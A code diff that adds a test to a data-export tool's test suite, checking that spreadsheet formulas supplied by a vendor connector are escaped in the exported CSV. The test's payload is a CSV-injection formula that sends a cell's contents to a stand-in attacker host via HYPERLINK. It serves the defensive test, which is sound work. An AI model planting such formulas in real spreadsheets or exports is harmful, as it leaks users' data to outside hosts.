@@ -89,3 +89,18 @@ def test_nesting_beyond_reason_fails_only_that_connector(run_export):
     assert "nested more than 64 levels deep" in (pkg.result.connectors["evil"].error or "")
     assert pkg.result.connectors["silvasoft"].status == "complete"
     assert pkg.result.status == "partial"
+
+
+def test_spreadsheet_formulas_from_a_vendor_are_neutralised_in_csv(run_export):
+    import csv
+    import io
+
+    class Formula(_Evil):
+        payload = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+
+    pkg = run_export(DEMO, [], {"evil": {}}, plugins=[_plugin(Formula)], only=["evil"])
+    name = next(n for n in pkg.zip.namelist() if n.endswith("/lightspeed.csv"))
+    rows = list(csv.reader(io.StringIO(pkg.zip.read(name).decode("utf-8"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
